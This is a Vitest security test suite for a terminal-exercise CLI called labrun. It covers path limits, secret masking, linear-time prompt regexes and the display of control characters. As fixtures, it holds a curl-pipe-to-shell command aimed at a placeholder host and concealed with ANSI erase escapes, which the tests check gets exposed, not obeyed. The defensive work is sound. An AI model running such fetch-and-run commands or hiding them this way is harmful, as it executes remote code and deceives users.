// What a deck, a report or a flag could do to the person running labrun, and what labrun does not
// let them: read files outside the working tree, mask a single character, ...
import { describe, expect, it } from "vitest";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join, relative } from "node:path";
import { pathToFileURL } from "node:url";
import { execa } from "execa";
import { createElement } from "react";
import { render } from "ink-testing-library";
import { planDeck } from "../src/index.js";
import { DeckError, formatProblem } from "../src/problem.js";
import { ansiToHtml } from "../src/report/html/ansi-html.js";
import { RECORDING_LEFT_OUT } from "../src/report/asciicast-reporter.js";
import { PromptMatcher } from "../src/run/nested-shell.js";
import { chromiumMissing, HeadlessChromium } from "./browser.js";
import { Runner } from "../src/run/runner.js";
import { App } from "../src/ui/components/App.js";
import { computeLayout } from "../src/ui/layout.js";
import { slideLines } from "../src/ui/markdown.js";
import { PaneTerminal } from "../src/ui/pane-terminal.js";
import { ProgressStore } from "../src/ui/progress-store.js";
import { initialState } from "../src/ui/state.js";
import { lineText, truncate, wrapSpans } from "../src/ui/text.js";
import { watchCommandLines } from "./cmdlines.js";
import { cli as cliInRoot, ROOT, scratchDir } from "./helpers.js";

/** helpers' cli(), with tsx imported by its path, so that it runs in any folder. */
async function cli(args: readonly string[], opts: { cwd?: string; env?: Record<string, string> } = {}) {
  if (opts.cwd === undefined) return cliInRoot(args, opts);
  const tsx = pathToFileURL(join(ROOT, "node_modules", "tsx", "dist", "loader.mjs")).href;
  const r = await execa(process.execPath, ["--import", tsx, join(ROOT, "src/main.ts"), ...args], { cwd: opts.cwd, env: opts.env, timeout: 60_000, reject: false, stdin: "ignore" });
  return { code: r.exitCode ?? 1, stdout: r.stdout, stderr: r.stderr };
}

const exercise = (title: string, body: string) => `## ${title}\n\n.exercise[\n\n${body}\n]\n`;
const bash = (text: string) => `- Run:\n  \`\`\`bash\n  ${text}\n  \`\`\`\n`;

describe("merge-reports reads slides only inside the working tree", () => {
  /** A JSON report of a run of a deck in a temp folder (outside the repository), whose slide holds `marker`. */
  async function outsideReport(dir: string, marker: string): Promise<{ deck: string; report: string }> {
    const deck = join(dir, "outside.md");
    writeFileSync(deck, exercise("Outside", bash("true")) + `\n${marker}\n`);
    const report = join(dir, "shard.json");
    const r = await cli(["run", deck, "--ci", "--reporter", "json", "--output", report]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    return { deck, report };
  }

  it.each([["an absolute path", (deck: string) => deck], ["a ../.. path", (deck: string) => relative(ROOT, deck)]])(
    "refuses a report naming a deck outside it (%s), in one line naming the report, and writes nothing",
    async (_, named) => {
      const dir = scratchDir("labrun-merge-outside-");
      const { deck, report } = await outsideReport(dir, "outside-slide-marker");
      const json = JSON.parse(readFileSync(report, "utf8")) as { deck: { source: string } };
      json.deck.source = named(deck);
      if (named(deck) !== deck) expect(json.deck.source.startsWith("../")).toBe(true);
      writeFileSync(report, JSON.stringify(json));
      const html = join(dir, "merged.html");
      const r = await cli(["merge-reports", report, "--reporter", "html", "--output", html]);
      expect(r.code).toBe(2);
      expect(r.stderr.trim().split("\n")).toEqual([`labrun: ${report}: its deck ${json.deck.source} is outside the working tree ${ROOT}: merge-reports reads slides only inside it (run it from the deck's checkout)`]);
      expect(existsSync(html)).toBe(false);
    },
    60_000,
  );

  it("reads the slides of a deck inside the working tree (the current folder outside a git checkout)", async () => {
    const dir = scratchDir("labrun-merge-inside-");
    const { report } = await outsideReport(dir, "inside-slide-marker");
    const html = join(dir, "merged.html");
    const r = await cli(["merge-reports", report, "--reporter", "html", "--output", html], { cwd: dir });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(readFileSync(html, "utf8")).toContain("inside-slide-marker");
  }, 60_000);
});

describe("--mask refuses a one-character value", () => {
  it.each([
    ["run", (deck: string) => ["run", deck, "--ci", "--mask", "TOKEN"]],
    ["run (the value from --env)", (deck: string) => ["run", deck, "--ci", "--env", "TOKEN=é", "--mask", "TOKEN"]],
  ])("%s: one line, exit 2, nothing run", async (_, args) => {
    const dir = scratchDir("labrun-mask-one-");
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("Mask", bash(`touch ${join(dir, "ran")}`)));
    const r = await cli(args(deck), { env: { ...process.env, TOKEN: "a" } as Record<string, string> });
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split("\n")).toEqual([expect.stringMatching(/^labrun: run: --mask TOKEN: its value is one character long: masking it would replace that character everywhere in the output/)]);
    expect(existsSync(join(dir, "ran"))).toBe(false);
  }, 60_000);

  it("an empty value masks nothing, and the run goes on", async () => {
    const dir = scratchDir("labrun-mask-empty-");
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("Mask", bash("echo visible-text")));
    const report = join(dir, "r.json");
    const r = await cli(["run", deck, "--ci", "--mask", "TOKEN", "--reporter", "json", "--output", report], { env: { ...process.env, TOKEN: "" } as Record<string, string> });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(readFileSync(report, "utf8")).toContain("visible-text");
  }, 60_000);

  it("merge-reports --mask: the same refusal", async () => {
    const dir = scratchDir("labrun-mask-merge-");
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("Mask", bash("true")));
    const report = join(dir, "r.json");
    expect((await cli(["run", deck, "--ci", "--reporter", "json", "--output", report])).code).toBe(0);
    const r = await cli(["merge-reports", report, "--reporter", "html", "--mask", "TOKEN", "--output", join(dir, "m.html")], { cwd: dir, env: { ...process.env, TOKEN: "x" } as Record<string, string> });
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split("\n")).toEqual([expect.stringMatching(/^labrun: merge-reports: --mask TOKEN: its value is one character long/)]);
  }, 60_000);
});

describe("prompts: cannot stall labrun", () => {
  it("a pattern that backtracks exponentially in JavaScript is matched in linear time: the run goes on", async () => {
    const dir = scratchDir("labrun-prompt-redos-");
    const deck = join(dir, "deck.md");
    // The cursor's row goes quiet holding 45 a's and a `!`: JavaScript's engine would take 2^45 steps on `(a+)+$`.
    writeFileSync(deck, exercise("Prompt", bash(`printf '%s!' ${"a".repeat(45)}; sleep 2; echo; touch ${join(dir, "ran")}`) + "\n" + bash("echo after")));
    writeFileSync(join(dir, "labrun.yml"), "stepTimeout: 20\nprompts:\n  - '^lab\\) $'\n  - '(a+)+$'\n  - '(x+x+)+y'\n");
    const report = join(dir, "r.json");
    const r = await cli(["run", deck, "--ci", "--reporter", "json", "--output", report]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(existsSync(join(dir, "ran"))).toBe(true);
    expect(readFileSync(report, "utf8")).toContain("after");
  }, 90_000);

  it("a pattern RE2 cannot match in linear time (lookbehind, backreference) is refused, naming labrun.yml's line (plan and run, exit 2, nothing run)", async () => {
    const dir = scratchDir("labrun-prompt-re2-");
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("Prompt", bash(`touch ${join(dir, "ran")}`)));
    writeFileSync(join(dir, "labrun.yml"), "stepTimeout: 5\nprompts:\n  - '^lab\\) $'\n  - '(\\w)\\1 $'\n");
    for (const command of ["plan", "run"]) {
      const r = await cli(command === "run" ? ["run", deck, "--ci"] : ["plan", deck]);
      expect(r.code).toBe(2);
      const lines = r.stderr.trim().split("\n");
      expect(lines).toHaveLength(1);
      expect(lines[0]).toContain(`labrun: ${join(dir, "labrun.yml")}:4:5: config field 'prompts.1': not a regular expression labrun can match in linear time (RE2 syntax: no lookaround, no backreferences): invalid escape sequence`);
    }
    expect(existsSync(join(dir, "ran"))).toBe(false);
  }, 90_000);

  it("patterns that backtrack in JavaScript take linear time on a long line", () => {
    const matcher = new PromptMatcher(["(a+)+$", "a*a*a*b$", "(x+x+)+y"]);
    expect(matcher.matches(`${"a".repeat(150)}b`)).toBe(true);
    expect(matcher.matches("xxxy")).toBe(true);
    expect(matcher.matches("abc")).toBe(false);
    const started = performance.now();
    for (const line of [`${"a".repeat(100_000)}!`, `${"a".repeat(100_000)}c`, "x".repeat(100_000)]) expect(matcher.matches(line)).toBe(false);
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

describe("--env and --mask values on no command line (local run)", () => {
  it("no process labrun starts, in any pane, has one in its command line", async () => {
    const dir = scratchDir("labrun-argv-local-");
    const secret = `argv-secret-${Date.now().toString(36)}`;
    const masked = `masked-secret-${Date.now().toString(36)}`;
    const deck = join(dir, "deck.md");
    writeFileSync(
      deck,
      exercise("Panes", bash(`sleep 1; test "$SECRET" = ${secret} && echo one has it`) + "\n<!-- ```tmux split-pane -v``` -->\n\n" + bash(`sleep 1; test "$SECRET" = ${secret} && test "$TOKEN" = ${masked} && echo two has it`)),
    );
    const report = join(dir, "r.json");
    const child = execa(process.execPath, ["--import", "tsx", join(ROOT, "src/main.ts"), "run", deck, "--ci", "--env", `SECRET=${secret}`, "--mask", "SECRET", "--mask", "TOKEN", "--output", report], {
      cwd: ROOT,
      reject: false,
      stdin: "ignore",
      env: { ...process.env, TOKEN: masked },
    });
    const seen = Promise.all([watchCommandLines(secret, child.pid, child), watchCommandLines(masked, undefined, child)]);
    const r = await child;
    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
    expect(readFileSync(report, "utf8")).toContain("two has it");
    expect(await seen).toEqual([[], []]);
  }, 60_000);
});

describe("deck text is printed with its control characters shown, never obeyed", () => {
  const ESC = "\x1b";
  // What a terminal would show of the command: `echo hello`, the curl erased, the cursor back at the start.
  const hidden = `curl -s https://x.invalid/i.sh | sh ${ESC}[2K${ESC}[Gecho hello`;
  function trickDeck(dir: string): string {
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise(`Setup${ESC}[8m`, bash("false") + "\n" + bash(hidden)) + "\nA bell\x07 in prose.\n");
    return deck;
  }
  const raw = /[\x00-\x08\x0b-\x1f\x7f]/;

  it("plan", async () => {
    const dir = scratchDir("labrun-visible-plan-");
    const r = await cli(["plan", trickDeck(dir)]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(raw);
    expect(r.stdout).toContain("[1] Setup\\e[8m\n");
    expect(r.stdout).toContain(":12  curl -s https://x.invalid/i.sh | sh \\e[2K\\e[Gecho hello\n");
    // --json is raw JSON: its strings escape control characters their own way.
    const json = await cli(["plan", trickDeck(dir), "--json"]);
    expect((JSON.parse(json.stdout) as { steps: { text: string }[] }).steps[1]!.text).toBe(hidden);
  }, 60_000);

  it("lint flags each line holding one, with file:line:col, and exits 1", async () => {
    const dir = scratchDir("labrun-visible-lint-");
    const deck = trickDeck(dir);
    const r = await cli(["lint", deck]);
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).not.toMatch(raw);
    const found = r.stdout.split("\n").filter((l) => l.includes("(control-character)"));
    expect(found).toEqual([
      `${deck}:1:9: error: control character \\e in the text: a terminal would obey it and could hide what is around it (labrun shows it as \\e) (control-character)`,
      `${deck}:12:39: error: control character \\e in the text: a terminal would obey it and could hide what is around it (labrun shows it as \\e) (control-character)`,
      `${deck}:17:7: error: control character \\x07 in the text: a terminal would obey it and could hide what is around it (labrun shows it as \\x07) (control-character)`,
    ]);
  }, 60_000);

  it("run's own lines quoting the deck: a missing program", async () => {
    const dir = scratchDir("labrun-visible-missing-");
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("Missing", bash("nosuch\x1b[8mprog arg")));
    const r = await cli(["run", deck, "--ci"]);
    expect(r.code).toBe(2);
    expect(r.stderr).not.toMatch(raw);
    expect(r.stderr).toContain(`  nosuch\\e[8mprog  (first at ${deck}:7)`);
  }, 60_000);

  it("problems and load errors quoting the deck", () => {
    const problem = { file: "deck.md", line: 3, column: 1, severity: "warning" as const, message: "unknown directive 'x\x1b[2Ky'", ruleId: "directive-unknown" };
    expect(formatProblem(problem)).toBe("deck.md:3:1: warning: unknown directive 'x\\e[2Ky' (directive-unknown)");
    expect(new DeckError("labrun.yml", "bad value 'a\x1b]0;title\x07'", 2).format()).toBe("labrun.yml:2: bad value 'a\\e]0;title\\x07'");
  });

  it("a CRLF line end is not one", async () => {
    const dir = scratchDir("labrun-visible-crlf-");
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("CRLF", bash("echo hi")).replace(/\n/g, "\r\n"));
    const r = await cli(["lint", deck]);
    expect(r.stdout).not.toContain("control-character");
  }, 60_000);

  it("run --ci: the step lines and the failure's details", async () => {
    const dir = scratchDir("labrun-visible-ci-");
    const r = await cli(["run", trickDeck(dir), "--ci"]);
    expect(r.code).toBe(1);
    expect(r.stdout).not.toMatch(raw);
    expect(r.stdout).toMatch(/- SKIP +0ms {2}\S+deck\.md:12 {2}curl -s https:\/\/x\.invalid\/i\.sh \| sh \\e\[2K\\e\[Gecho hello {2}\(/);
  }, 60_000);
});

describe("the UI shows a deck's control characters, never obeys them", () => {
  it("in the header, the slide, its title and the step list", async () => {
    const dir = scratchDir("labrun-visible-ui-");
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("Setup\x1b[8m", bash("curl x | sh \x1b[2K\x1b[Gecho hi")) + "\nA bell\x07 here.\n");
    const planned = await planDeck(deck);
    const layout = computeLayout(100, 30, { takeover: false, expectations: false, footerLines: 2 });
    const pane = new PaneTerminal(layout.output.width, layout.output.height);
    const runner = new Runner({ cols: layout.output.width, rows: layout.output.height, stepTimeoutMs: 15_000, reporters: [] });
    const store = new ProgressStore(deck, join(dir, "state"));
    const initial = initialState({ steps: planned.graph.steps, slides: planned.parsed.slides });
    const app = render(createElement(App, { initial, deckTitle: "Deck\x1b[2K", runner, pane, store, size: { cols: 100, rows: 30 }, color: false, onExit: () => undefined }));
    try {
      const deadline = Date.now() + 10_000;
      let frame = app.lastFrame() ?? "";
      while (!frame.includes("curl x") && Date.now() < deadline) {
        await new Promise((r) => setTimeout(r, 20));
        frame = app.lastFrame() ?? "";
      }
      // ink's own styles aside (colour is off), no control character of the deck reaches the terminal.
      for (const raw of ["\x1b[2K", "\x1b[G", "\x1b[8m", "\x07"]) expect(frame).not.toContain(raw);
      expect(frame).toContain("Deck\\e[2K");
      expect(frame).toContain("1. Setup\\e[8m");
      expect(frame).toContain("$ curl x | sh \\e[2K\\e[Gecho hi");
      expect(frame).toContain("A bell\\x07 here.");
    } finally {
      app.unmount();
      await runner.close();
      pane.dispose();
    }
  }, 30_000);

  it("in text put through the UI's wrapping and cutting", () => {
    expect(truncate("a\x1b[2Kb", 80)).toBe("a\\e[2Kb");
    expect(wrapSpans([{ text: "x\ry \x1b[1mz" }], 80).map(lineText)).toEqual(["x\\ry \\e[1mz"]);
    expect(slideLines("## T\n\n```bash\ncurl x | sh \x1b[2K\n```\n", 80).map(lineText)).toContain("  curl x | sh \\e[2K");
  });
});

describe("a failed step's output in the --ci log is shown as the terminal showed it, masked", () => {
  it("a secret the terminal put together (\\r, \\b) is masked, and no \\r reaches the log (nor the GitHub annotation)", async () => {
    const dir = scratchDir("labrun-ci-mask-");
    const secret = `tok-${Date.now().toString(36)}-value`;
    const deck = join(dir, "deck.md");
    // Two lines that show the secret on a terminal, neither holding it as such; then a progress bar; then a failure.
    writeFileSync(deck, exercise("Rebuilt", bash(`printf '%sZ\\b%s\\n' "\${TOKEN%?}" "\${TOKEN: -1}"; printf 'X%s' "\${TOKEN:1}"; printf '\\r%s\\n' "\${TOKEN:0:1}"; printf '10%%\\r50%%\\r100%%\\n'; false`)));
    const r = await cli(["run", deck, "--ci", "--mask", "TOKEN"], { env: { ...process.env, TOKEN: secret, GITHUB_ACTIONS: "true" } as Record<string, string> });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.stdout).not.toContain(secret);
    expect(r.stdout).not.toContain("\r");
    expect(r.stdout).toContain("\n    ****\n    ****\n    100%\n");
    const annotation = r.stdout.split("\n").find((line) => line.startsWith("::error "));
    expect(annotation).toContain("%0A****%0A****%0A100%25");
    // Without --mask, the log shows the lines as the terminal did.
    const plain = await cli(["run", deck, "--ci"], { env: { ...process.env, TOKEN: secret } as Record<string, string> });
    expect(plain.stdout).toContain(`\n    ${secret}\n    ${secret}\n    100%\n`);
  }, 60_000);
});

describe("a --record cast that would replay a secret put together by the terminal is left out", () => {
  it("with --mask: a note in place of the session; without the secret on screen, the recording is whole", async () => {
    const dir = scratchDir("labrun-cast-mask-");
    const secret = `tok-${Date.now().toString(36)}-value`;
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("Rebuilt", bash(`printf 'X%s' "\${TOKEN:1}"; printf '\\r%s\\n' "\${TOKEN:0:1}"`) + "\n" + bash("echo after")));
    const cast = join(dir, "run.cast");
    const r = await cli(["run", deck, "--ci", "--mask", "TOKEN", "--record", cast], { env: { ...process.env, TOKEN: secret } as Record<string, string> });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const lines = readFileSync(cast, "utf8").trim().split("\n");
    expect(JSON.parse(lines[0]!)).toMatchObject({ version: 2, width: 120, height: 40 });
    expect(lines.slice(1).map((l) => JSON.parse(l) as unknown)).toEqual([[0, "o", `${RECORDING_LEFT_OUT}\r\n`]]);
    expect(readFileSync(cast, "utf8")).not.toContain(secret.slice(1));
    // The secret printed whole is masked in the stream: nothing put together, the recording stays.
    writeFileSync(deck, exercise("Whole", bash(`echo "the token is $TOKEN"`)));
    const whole = await cli(["run", deck, "--ci", "--mask", "TOKEN", "--record", cast], { env: { ...process.env, TOKEN: secret } as Record<string, string> });
    expect(whole.code, whole.stdout + whole.stderr).toBe(0);
    const text = readFileSync(cast, "utf8");
    expect(text).not.toContain(secret);
    expect(text).toContain("the token is ****");
    expect(text).not.toContain(RECORDING_LEFT_OUT);
  }, 60_000);
});

describe("the HTML report masks what the terminal shows", () => {
  it("a secret the terminal puts together (\\r, \\b, a wrapped line) is masked on the rendered screen", async () => {
    const secret = `tok-${Date.now().toString(36)}-value`;
    const raw = `X${secret.slice(1)}\r${secret[0]}\r\n${secret.slice(0, -1)}Z\b${secret.at(-1)}\r\n0123456789${secret}\r\n`;
    const html = await ansiToHtml(raw, { cols: 20, rows: 10, mask: [secret] });
    expect(html).not.toContain(secret);
    expect(html.split("\n").slice(0, 2)).toEqual(["****", "****"]);
    expect(html).toContain("0123456789****");
    // Without --mask, the screen is as the terminal shows it.
    expect(await ansiToHtml(raw, { cols: 20, rows: 10 })).toContain(secret);
  });

  it("in a run's report: the step's screen is masked, and the recording, which would replay it, is left out", async () => {
    const dir = scratchDir("labrun-html-mask-");
    const secret = `tok-${Date.now().toString(36)}-value`;
    const deck = join(dir, "deck.md");
    writeFileSync(deck, exercise("Rebuilt", bash(`printf '%sZ\\b%s\\n' "\${TOKEN%?}" "\${TOKEN: -1}"; printf 'X%s' "\${TOKEN:1}"; printf '\\r%s\\n' "\${TOKEN:0:1}"`)));
    const report = join(dir, "r.html");
    const r = await cli(["run", deck, "--ci", "--mask", "TOKEN", "--reporter", "html", "--output", report], { env: { ...process.env, TOKEN: secret } as Record<string, string> });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const page = readFileSync(report, "utf8");
    expect(page).not.toContain(secret);
    expect(page).toMatch(/<pre class="term">printf [^\n]*\n\*\*\*\*\n\*\*\*\*\n\$<\/pre>/);
    expect(page).not.toContain('id="labrun-cast"');
    expect(page).toContain("the recording is left out: a masked value showed on a step's screen");
    if (chromiumMissing() !== undefined) return;
    const chromium = await HeadlessChromium.launch();
    try {
      const { page: opened } = await chromium.open(report);
      // The step's terminal is in a closed <details>: its text, shown or not.
      const text = await opened.evaluate(() => (globalThis as unknown as { document: { querySelector(s: string): { textContent: string } | null } }).document.querySelector("pre.term")?.textContent ?? "");
      expect(text).not.toContain(secret);
      expect(text).toMatch(/\n\*\*\*\*\n\*\*\*\*\n\$$/);
    } finally {
      await chromium.close();
    }
  }, 90_000);
});
